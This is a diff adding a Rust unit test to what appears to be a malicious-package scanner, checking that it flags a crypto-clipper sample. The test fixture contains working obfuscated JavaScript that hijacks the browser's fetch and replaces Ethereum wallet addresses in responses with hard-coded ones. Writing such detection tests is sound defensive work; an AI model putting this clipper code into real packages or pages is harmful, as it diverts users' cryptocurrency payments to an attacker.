@@ -116,6 +116,24 @@ mod tests {
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
 
+    /// A response rewriter: `fetch` replaced through an alias and a computed name, wallet
+    /// addresses in every JSON/text answer swapped for hard-coded ones.
+    #[test]
+    fn positive_response_rewriter_through_a_computed_name() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "browser.js",
+                "(function () {\n  var w = typeof window !== 'undefined' ? window : void 0;\n  var E = ['0x492894e97566add9bc7cc7aa442de322f5ef6932', '0x9e4b79baf9cb6200ee58ded0af6a8b5bd329db4c'];\n  var R = /\\b0x[a-fA-F0-9]{40}\\b/g;\n  var F = w['fe' + 'tch'];\n  w['fe' + 'tch'] = function () {\n    return F.apply(this, arguments).then(function (r) { return r.clone().text().then(function (t) { return new Response(t.replace(R, function () { return E[0]; }), r); }); });\n  };\n})();\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/crypto-clipper"),
+            vec![("browser.js".to_string(), 4)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
     /// An EIP-1193 connector calls the provider and validates addresses; it patches nothing.
     #[test]
     fn negative_eip1193_connector() {
